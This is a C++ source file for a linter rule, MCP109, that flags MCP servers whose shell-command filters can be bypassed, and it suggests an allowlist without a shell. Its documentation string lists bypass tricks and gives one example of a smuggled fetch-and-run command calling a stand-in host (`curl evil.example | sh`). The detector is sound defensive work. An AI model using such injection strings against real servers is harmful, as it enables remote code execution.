#include <algorithm>
#include <string>
#include <string_view>

#include "rules/rules.h"
#include "rules/tools/guards.h"
#include "rules/tools/sinks.h"

namespace mcplint {

static void check(const Project& project, Report& report);

constinit const Rule rules::mcp109_weak_command_filter = {
    .id = "MCP109",
    .name = "weak-command-filter",
    .summary = "Command of a caller is filtered in a way that does not hold",
    .severity = Severity::High,
    .cwe = 78,
    .owasp = "MCP05:2025",
    .doc = R"(
The server looks at the command before it hands it to a shell, and the look does
not help. A list of forbidden characters misses one (a line feed, `$()`, `%0a`); a list
of forbidden commands misses all others (`\rm`, `find -delete`); a test of the first word
says nothing of what follows it: `git status; curl evil.example | sh`.

Take the command apart, allow what is known, and start it without a shell:

    words = shlex.split(command)
    if words[0] not in ALLOWED:
        raise ValueError("not allowed")
    subprocess.run(words, check=True)

The programs that are allowed must have no options that run others.
)",
    .blind_spots = R"(
Filters that are written as a table of another program, and whether an allowed
program can be made to start others. A command without any filter is a matter of
MCP102.
)",
    .sinks = kStarts,
    .check = check,
};

/// Without a shell, a first word of a fixed list settles which program starts.
static bool is_weak(const TaintedCall& call) {
  const Start start = started_as(call);
  if (start != Start::Shell && start != Start::Program) return false;
  if (start == Start::Program && names_program(call)) return false;
  const Guard* filter = weak_filter(call);
  if (filter == nullptr || is_settled_word(call)) return false;
  return start == Start::Shell || filter->outcome == Outcome::False;
}

static std::string flaw_of(const Guard& filter) {
  if (filter.outcome == Outcome::False) return "a list of what is forbidden misses something";
  return "says nothing of what follows the first word";
}

static void check(const Project& project, Report& report) {
  for (const Use& use : uses(project, kStarts, is_weak)) {
    const Guard& filter = *weak_filter(*use.call);
    Diagnostic& finding =
        report.at(use.call->span,
                  "`{}` runs what the caller of `{}` sends, behind a filter that does not hold",
                  use.call->callee, use.tool->name);
    finding.note(filter.span, flaw_of(filter));
    use.explain(finding);
    finding.suggest(
        "split it with `shlex.split`, allow its first word from a fixed list, and start it without "
        "a shell");
  }
}

}  // namespace mcplint
